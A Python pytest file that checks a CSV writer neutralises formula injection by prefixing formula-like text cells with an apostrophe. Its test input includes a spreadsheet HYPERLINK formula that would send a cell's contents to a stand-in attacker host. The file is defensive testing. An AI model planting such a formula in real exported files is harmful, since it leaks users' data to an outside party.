"""Every CSV the product writes neutralises formulas in text cells (core/csvfile.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.csvfile import csv_cell, csv_text

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize(
    "text", [EVIL, "+91 98765 43210", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"]
)
def test_it_writes_a_text_cell_starting_like_a_formula_as_text(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


def test_it_leaves_other_text_and_numbers_as_they_are() -> None:
    assert csv_cell("Asha Learner") == "Asha Learner"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell("") == "" and csv_cell(None) == ""
    assert csv_cell(Decimal("-3812.71")) == "-3812.71"
    assert csv_cell(-3) == "-3"


def test_a_whole_file_neutralises_every_text_cell() -> None:
    text = csv_text(["Name", "Total"], [[EVIL, Decimal("-1.50")], ["Ravi", Decimal("2.00")]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["Name", "Total"],
        [f"'{EVIL}", "-1.50"],
        ["Ravi", "2.00"],
    ]
